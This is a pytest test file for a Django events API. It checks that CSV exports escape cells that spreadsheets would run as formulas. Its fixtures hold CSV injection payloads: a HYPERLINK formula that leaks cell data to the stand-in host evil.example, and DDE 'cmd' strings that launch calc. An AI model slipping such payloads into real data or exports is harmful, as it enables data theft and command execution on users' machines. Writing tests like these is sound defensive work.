"""No CSV answer carries a cell that a spreadsheet would run as a formula (OWASP's rule).

Outlet names, titles, actor and place names reach the public exports; a submitter or a careless
editor can make one start with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return.
"""

from __future__ import annotations

import csv
import io

import pytest

from events.api.renderers import csv_safe
from tests.api.factories import make_actor, make_event, make_location

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile_world(db):
    place = make_location("hostile-town", "+cmd|' /C calc'!A0", lat=35.0, lon=40.0)
    actor = make_actor("hostile-actor", "@SUM(1+1)*cmd|' /C calc'!A0", kind="other")
    other = make_actor("tab-actor", "\tTabbed Brigade", kind="other")
    event = make_event(
        location=place,
        actors=[(actor, "side_a"), (other, "side_b")],
        killed=2,
        summary="-2+3 whatever",
        source=HOSTILE,
    )
    return event


def rows(response) -> list[dict]:
    raw = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8"), newline="")))


def assert_no_formula(table: list[dict]) -> None:
    assert table, "the export is empty"
    for row in table:
        for column, cell in row.items():
            assert not (cell or "").startswith(STARTS), f"{column}={cell!r}"


@pytest.mark.parametrize(
    "url",
    [
        "/api/v1/events/?format=csv",
        "/api/v1/stats/events/?format=csv&group_by=actor",
        "/api/v1/actors/?format=csv",
        "/api/v1/locations/?format=csv",
        "/api/v1/actors/hostile-actor/events/?format=csv",
        "/api/v1/locations/hostile-town/events/?format=csv",
    ],
)
def test_it_neutralises_formulas_in_every_csv_export(hostile_world, api_client, url):
    response = api_client.get(url)
    assert response.status_code == 200, response.content[:300]
    assert_no_formula(rows(response))


def test_it_neutralises_the_single_event_csv(hostile_world, api_client):
    response = api_client.get(f"/api/v1/events/{hostile_world.pk}/?format=csv")
    assert response.status_code == 200
    table = rows(response)
    assert_no_formula(table)
    # The outlet is kept, readable, behind the apostrophe spreadsheets do not show.
    assert any(HOSTILE in cell for cell in table[0].values())


def test_it_keeps_numbers_and_ordinary_text_unchanged():
    assert csv_safe(-3) == -3
    assert csv_safe(-34.5) == -34.5
    assert csv_safe(None) is None
    assert csv_safe("Deir ez-Zor") == "Deir ez-Zor"
    assert csv_safe("=1+1") == "'=1+1"
    assert csv_safe("\r=1") == "'\r=1"
